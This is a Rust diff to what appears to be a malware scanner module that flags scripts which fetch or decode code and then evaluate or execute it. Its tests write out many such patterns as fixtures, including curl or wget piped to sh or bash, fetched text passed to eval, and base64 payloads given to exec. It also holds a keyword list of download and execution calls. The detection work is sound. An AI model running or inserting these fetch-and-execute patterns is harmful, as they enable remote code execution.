@@ -1,9 +1,14 @@
 //! What stands in scripts and pages: words by which they fetch, decode, evaluate and execute, and how their text looks.
 
+mod command;
+mod flow;
+mod looks;
+
 use std::{collections::BTreeSet, sync::LazyLock};
 
 use aho_corasick::AhoCorasick;
 
+use super::Type;
 use crate::Facts;
 
 /// So many bytes of a script are looked at.
@@ -18,6 +23,8 @@ const WORDS: &[(&str, &[&str])] = &[
             "new Function(",
             "Function(",
             "vm.runIn",
+            "runInNewContext(",
+            "runInThisContext(",
             "execScript",
             "ExecuteGlobal",
             "Invoke-Expression",
@@ -45,6 +52,10 @@ const WORDS: &[(&str, &[&str])] = &[
             "requests.post(",
             "curl ",
             "wget ",
+            "\"curl\"",
+            "'curl'",
+            "\"wget\"",
+            "'wget'",
             "Invoke-WebRequest",
             "Invoke-RestMethod",
             "DownloadString",
@@ -126,8 +137,11 @@ static SEARCH: LazyLock<Option<(AhoCorasick, Vec<Word>)>> = LazyLock::new(|| {
     Some((search, words))
 });
 
-/// Tells what stands in a script.
-pub fn facts(bytes: &[u8], facts: &mut Facts) {
+/// Tells what stands in a script of this type; the limits that were hit.
+pub fn facts(kind: Type, bytes: &[u8], facts: &mut Facts) -> Vec<String> {
+    let behind = bytes.get(LIMIT + 1..).map(|_| {
+        format!("limit: expected a script of at most {LIMIT} bytes, found more; what is behind was not looked at")
+    });
     let bytes = bytes.get(..LIMIT).unwrap_or(bytes);
     if let Some((search, words)) = &*SEARCH {
         let found: BTreeSet<usize> =
@@ -136,44 +150,9 @@ pub fn facts(bytes: &[u8], facts: &mut Facts) {
             facts.tell(*field, word.trim());
         }
     }
-    let lines = bytes.split(|byte| *byte == b'\n');
-    let longest = lines.clone().map(<[u8]>::len).max().unwrap_or_default();
-    facts.count("Lines", lines.clone().count() as u64);
-    facts.count("LongestLine", longest as u64);
-    facts.count("CodeBehindBlanks", lines.map(blanks).max().unwrap_or_default() as u64);
-    facts.count("ObfuscatedNames", obfuscated(bytes));
-    facts.count("LongestEncoded", encoded(bytes) as u64);
-}
-
-/// How many blanks stand before code that has other code on its left: text pushed out of sight.
-fn blanks(line: &[u8]) -> usize {
-    let (mut most, mut run, mut begun) = (0, 0, false);
-    for byte in line {
-        match byte {
-            b' ' | b'\t' if begun => run += 1,
-            b' ' | b'\t' | b'\r' => {}
-            _ => {
-                most = most.max(run);
-                (run, begun) = (0, true);
-            }
-        }
-    }
-    most
-}
-
-/// Names as the common obfuscator makes them: `_0x` and at least four hexadecimal digits.
-fn obfuscated(bytes: &[u8]) -> u64 {
-    let digits = |at: usize| {
-        let rest = bytes.get(at + 3..).unwrap_or_default();
-        rest.iter().take(4).filter(|byte| byte.is_ascii_hexdigit()).count()
-    };
-    memchr::memmem::find_iter(bytes, "_0x").filter(|at| digits(*at) == 4).count() as u64
-}
-
-/// The longest run of characters of Base64 or hexadecimal digits.
-fn encoded(bytes: &[u8]) -> usize {
-    let runs = bytes.split(|byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=')));
-    runs.map(<[u8]>::len).max().unwrap_or_default()
+    looks::facts(bytes, facts);
+    let limit = flow::facts(kind, bytes, facts);
+    behind.into_iter().chain(limit).collect()
 }
 
 #[cfg(test)]
@@ -183,10 +162,161 @@ mod tests {
     use super::*;
     use crate::Kind;
 
-    fn told(text: &str) -> impl Fn(&'static str) -> Vec<String> + use<> {
+    fn told_of(kind: Type, text: &str) -> impl Fn(&'static str) -> Vec<String> + use<> {
         let mut told = Facts::new(Kind::File, Position::Record(1), None);
-        facts(text.as_bytes(), &mut told);
+        assert_eq!(facts(kind, text.as_bytes(), &mut told), [""; 0]);
         move |name| told.values(name).map(|value| value.into_owned()).collect()
+    }
+
+    fn told(text: &str) -> impl Fn(&'static str) -> Vec<String> + use<> {
+        told_of(Type::JavaScript, text)
+    }
+
+    /// What is evaluated or executed, and where it comes from.
+    fn flows(kind: Type, text: &str) -> Vec<&'static str> {
+        let told = told_of(kind, text);
+        let fields = ["EvaluatesFetched", "EvaluatesDecoded", "ExecutesFetched", "ExecutesDecoded", "FetchesAndRuns"];
+        fields.into_iter().filter(|field| !told(field).is_empty()).collect()
+    }
+
+    #[track_caller]
+    fn flow(kind: Type, expected: &[&str], texts: &[&str]) {
+        for text in texts {
+            assert_eq!(flows(kind, text), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn fetched_text_is_evaluated() {
+        let texts = [
+            "axios.get(u).then(r => new Function('require', r.data.cookie)(require))",
+            "const { data } = await axios.get(u);\nlog(1);\neval(data)",
+            "fetch(u).then(r=>r.text()).then(eval)",
+            "axios.post(u, {}).then(r => { log(r) }).catch(e=>eval(e.response.data))",
+            "try { await axios.get(u) } catch (problem) { eval(problem.response.data.message) }",
+            "https.get(u, res => { let s = ''; res.on('data', c => s += c); res.on('end', () => { eval(s) }) })",
+            "https.get(u, function (answer) {\n  let text = '';\n  answer.on('data', function (part) {\n    text += part;\n  });\n  answer.on('end', () => vm.runInThisContext(text));\n});",
+            "async function load() {\n  const r = await fetch(u);\n  return r.text();\n}\nload().then(0);\n(0, eval)(await load())",
+            "const x = new XMLHttpRequest(); x.onload = () => { window.eval(x.responseText) }",
+            "request(u, (err, res, body) => { new Function(body)() })",
+            "const handler = new Function.constructor('require', (await axios.get(u)).data);",
+        ];
+        flow(Type::JavaScript, &["EvaluatesFetched"], texts.get(..10).unwrap());
+        let texts = [
+            "exec(requests.get(u).text)",
+            "import urllib.request\nsource = urllib.request.urlopen(u).read().decode()\nexec(compile(source, 'x', 'exec'))",
+            "def get():\n    with urlopen(u) as answer:\n        return answer.read()\n\nexec(get())",
+            "exec(\n    requests.get(\n        u\n    ).text\n)",
+        ];
+        flow(Type::Python, &["EvaluatesFetched"], &texts);
+    }
+
+    #[test]
+    fn decoded_text_is_evaluated_or_executed() {
+        flow(
+            Type::JavaScript,
+            &["EvaluatesDecoded"],
+            &["eval(atob('MQ=='))", "const s = Buffer.from(t, 'base64').toString();\neval(s)"],
+        );
+        flow(
+            Type::Python,
+            &["EvaluatesDecoded"],
+            &["exec(zlib.decompress(base64.b64decode('eA==')))", "code = bytes.fromhex('31')\nexec(code)"],
+        );
+        flow(Type::Python, &["ExecutesDecoded"], &["os.system(base64.b64decode('bHM=').decode())"]);
+    }
+
+    #[test]
+    fn what_was_fetched_is_executed() {
+        flow(
+            Type::Python,
+            &["ExecutesFetched"],
+            &[
+                "urllib.request.urlretrieve(u, '/tmp/helper')\nsubprocess.Popen(['/tmp/helper'])",
+                "data = urlopen(u).read()\nwith open(target, 'wb') as out:\n    out.write(data)\nsubprocess.Popen([sys.executable, target])",
+                "open('a.py', 'wb').write(requests.get(u).content)\nos.system('python a.py')",
+                "os.system('curl -so /tmp/a https://example.org/a')\nos.system('sh /tmp/a')",
+            ],
+        );
+        flow(
+            Type::Rust,
+            &["ExecutesFetched"],
+            &[
+                "Command::new(\"curl\")\n    .args([\"-o\", \"/tmp/x\", URL])\n    .status();\nCommand::new(\"/tmp/x\").spawn();",
+                "let got = Command::new(\"wget\").arg(url).output().unwrap();\nstd::fs::write(&place, got.stdout);\nCommand::new(\"sh\").arg(&place).status();",
+            ],
+        );
+        flow(
+            Type::Python,
+            &["FetchesAndRuns"],
+            &[
+                "os.system('curl -s https://example.org/a -o /tmp/a && sh /tmp/a')",
+                "line = 'wget -qO- https://example.org | bash'\nsubprocess.call(line, shell=True)",
+            ],
+        );
+        flow(
+            Type::JavaScript,
+            &["FetchesAndRuns"],
+            &[
+                "const { exec } = require('child_process');\nexec('curl -s https://example.org/a | sh')",
+                "require('child_process').exec(`curl ${u} | node`)",
+            ],
+        );
+        flow(
+            Type::Rust,
+            &["FetchesAndRuns"],
+            &["Command::new(\"sh\").args([\"-c\", \"curl -s https://example.org | sh\"])"],
+        );
+        flow(
+            Type::Shell,
+            &["FetchesAndRuns"],
+            &["curl -fsSL https://example.org | sudo bash\n", "sh -c \"$(curl -fsSL https://example.org)\"\n"],
+        );
+    }
+
+    #[test]
+    fn honest_flows() {
+        flow(
+            Type::JavaScript,
+            &[],
+            &[
+                "fetch('/api').then(eval)",
+                "fetch(u).then(r => r.json()).then(d => { const m = /x/.exec(d.text) })",
+                "const html = compile(template); fetch(u); new Function('a', 'return a')",
+                "const hash = crypto.createHash('md5').digest('hex');\nconst f = new Function('return 1')",
+                "child_process.execSync('curl --version')",
+                "console.log('run: curl https://sh.rustup.rs | sh')",
+            ],
+        );
+        flow(
+            Type::Python,
+            &[],
+            &[
+                "exec(open('x/version.py').read(), about)",
+                "data = urlopen(u).read()\nopen('a.tar.gz', 'wb').write(data)\nsubprocess.check_call(['tar', 'xf', 'a.tar.gz'])\nsubprocess.check_call(['make'])",
+                "print('curl https://sh.rustup.rs | sh')",
+                "m = re.compile(requests.get(u).text)",
+            ],
+        );
+        flow(
+            Type::Rust,
+            &[],
+            &[
+                "Command::new(\"curl\").args([\"-o\", \"a.tar.gz\", URL]).status();\nCommand::new(\"tar\").args([\"xf\", \"a.tar.gz\"]);\nCommand::new(\"cmake\").status();",
+            ],
+        );
+        flow(
+            Type::Shell,
+            &[],
+            &["curl -fsSL https://example.org -o a.tgz && tar xf a.tgz\n", "# curl https://example.org | sh\n"],
+        );
+    }
+
+    #[test]
+    fn what_is_behind_the_limit_is_told() {
+        let mut told = Facts::new(Kind::File, Position::Record(1), None);
+        let damages = facts(Type::JavaScript, &vec![b'\n'; LIMIT + 1], &mut told);
+        assert!(damages.iter().any(|damage| damage.starts_with("limit: ")), "{damages:?}");
     }
 
     #[test]
